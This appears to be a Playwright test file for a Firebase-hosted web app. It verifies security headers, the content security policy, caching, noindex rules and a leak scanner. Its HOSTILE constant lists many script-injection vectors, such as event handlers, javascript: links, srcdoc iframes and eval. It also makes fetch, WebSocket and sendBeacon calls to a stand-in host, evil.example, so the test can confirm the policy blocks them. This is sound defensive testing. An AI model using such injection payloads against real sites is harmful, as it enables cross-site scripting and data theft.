import { readFileSync } from 'node:fs'
import path from 'node:path'
import { findLeaks } from '../scripts/leaks.mjs'
import { expect, SITE_FOLDER, test } from './fixtures'

type Header = { key: string; value: string }
const firebase = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../firebase.json'), 'utf8')) as {
  hosting: { headers: { source: string; headers: Header[] }[] }
}
const siteHeaders = firebase.hosting.headers.find(({ source }) => source === '**')?.headers ?? []
const production = siteHeaders.find(({ key }) => key === 'Content-Security-Policy')?.value ?? ''

test('every answer carries the headers of firebase.json', async ({ baseURL }) => {
  for (const route of ['/', '/products', '/admin/dashboard', '/no-such']) {
    const { headers } = await fetch(new URL(route, baseURL))
    for (const { key, value } of siteHeaders) {
      // The local hosting adds only the addresses of the emulators, and leaves requests over http as they are.
      const served = headers.get(key)?.replace(/ http:\/\/127\.0\.0\.1:\d+/g, '')
      expect(served, `${key} of ${route}`).toBe(value.replace('; upgrade-insecure-requests', ''))
    }
  }
})

test('the policy allows no more than the site needs', () => {
  expect(production).toContain("default-src 'none'")
  expect(production).toContain("script-src 'self';")
  expect(production).toContain("frame-ancestors 'none'")
  expect(production).toContain('upgrade-insecure-requests')
  expect(production).not.toMatch(/127\.0\.0\.1|localhost|unsafe-eval|http:/)
})

test('hashed files are cached for a year', async ({ baseURL }) => {
  const page = await fetch(`${baseURL}/`)
  expect(page.headers.get('cache-control')).toBe('no-cache')
  const asset = /src="(\/assets\/[^"]+\.js)"/.exec(await page.text())?.[1]
  expect((await fetch(`${baseURL}${asset}`)).headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
})

test('missing and internal pages are kept out of caches and search engines (decision 52)', async ({ baseURL }) => {
  for (const [route, status] of [
    ['/no-such', 404],
    ['/assets/gone-1a2b3c4d.js', 404],
    ['/test', 200],
    ['/director-test', 200],
    ['/admin', 200],
    ['/admin/login', 200],
    ['/admin/dashboard', 200],
  ] as const) {
    const answer = await fetch(new URL(route, baseURL))
    expect(answer.status, route).toBe(status)
    expect(answer.headers.get('x-robots-tag'), route).toBe('noindex')
    // In the emulator the rule for /assets wins over the rule for the 404 page.
    if (!route.startsWith('/assets/')) expect(answer.headers.get('cache-control'), route).toBe('no-cache')
  }
  expect((await fetch(`${baseURL}/about`)).headers.get('x-robots-tag'), 'the control').toBeNull()
})

test('the search for leaks finds the local addresses of the test build', () => {
  const found = findLeaks(SITE_FOLDER)
  for (const what of ['a local address', 'the local project'])
    expect(
      found.some((line) => line.endsWith(what)),
      what,
    ).toBe(true)
  console.info(`[figure] local addresses and projects found in the build for the tests: ${found.length}`)
})

test('an injected script does not run (P14)', async ({ page, baseURL, consoleGuard }) => {
  consoleGuard.allow(/\/none\)|Content Security Policy|Refused to|ERR_BLOCKED|frame-ancestors|X-Frame-Options|violates/)
  // The script comes from a page of the site, because page.evaluate ignores the content security policy.
  await page.route('**/assets/hostile.js', (route) => route.fulfill({ contentType: 'text/javascript', body: HOSTILE }))
  await page.goto('/')
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.src = '/assets/hostile.js'
    document.body.append(script)
  })
  await page.waitForFunction(() => 'done' in window)
  const { executed, reported } = await page.evaluate(() => {
    const { executed, reported } = window as unknown as { executed: string[]; reported: string[] }
    return { executed, reported }
  })
  console.info(`[figure] hostile injections reported: ${reported.length}, executed: ${executed.length}`)
  expect(executed).toEqual([])
  expect(reported.length).toBeGreaterThanOrEqual(12)

  await page.route('https://framer.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  )
  await page.goto('https://framer.example/')
  await expect.poll(() => page.frames()[1]?.url() ?? '').not.toBe(`${baseURL}/`)
})

const HOSTILE = `
window.executed = []; window.reported = []
document.addEventListener('securitypolicyviolation', (event) => window.reported.push(event.effectiveDirective))
const put = (html) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); return box }
const script = (set) => { const element = document.createElement('script'); set(element); document.body.append(element) }
script((s) => { s.textContent = "executed.push('inline')" })
script((s) => { s.src = 'https://evil.example/a.js' })
script((s) => { s.src = 'data:text/javascript,executed.push("data")' })
script((s) => { s.src = URL.createObjectURL(new Blob(["executed.push('blob')"], { type: 'text/javascript' })) })
script((s) => { s.type = 'module'; s.textContent = "executed.push('module')" })
put('<img src="/none" onerror="executed.push(1)">')
put('<svg onload="executed.push(2)"></svg>')
put('<a href="javascript:executed.push(3)">x</a>').firstChild.click()
put('<iframe src="https://evil.example/"></iframe>')
put('<iframe srcdoc="<script>parent.executed.push(4)</scr' + 'ipt>"></iframe>')
put('<object data="https://evil.example/"></object>')
put('<embed src="https://evil.example/">')
put('<base href="https://evil.example/">')
put('<form action="https://evil.example/"><button></button></form>').querySelector('form').submit()
put('<link rel="stylesheet" href="https://evil.example/a.css">')
put('<audio src="http://evil.example/a.mp3" autoplay></audio>')
try { eval("executed.push('eval')") } catch {}
try { new Function("executed.push('function')")() } catch {}
try { setTimeout("executed.push('timeout')") } catch {}
try { new Worker('https://evil.example/w.js') } catch {}
try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch {}
fetch('https://evil.example/').catch(() => {})
try { new WebSocket('wss://evil.example/') } catch {}
navigator.sendBeacon('https://evil.example/', 'x')
setTimeout(() => { window.done = true }, 500)
`
